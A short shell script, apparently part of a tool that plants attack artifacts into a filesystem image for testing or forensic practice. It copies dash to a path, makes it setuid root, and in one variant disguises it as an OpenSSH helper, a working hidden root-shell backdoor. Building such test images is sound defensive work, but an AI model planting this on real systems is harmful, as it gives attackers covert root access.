#!/bin/sh
# setuid-shell: a shell with root's rights (chmod(1))
. "${0%/*}/lib.sh"
only "plain disguised user" "the shell is the mechanism"
case $variant in
plain) f=/var/tmp/.sh ;;
disguised) f=/usr/lib/openssh/ssh-keyauth ;;
*) f=/home/op/.local/bin/rootsh ;;
esac
folder "${f%/*}"
cat "$root/usr/bin/dash" >"$root$f"
chown 0:0 "$root$f"
chmod 4755 "$root$f"
disguise "$root$f"
planted "$f"
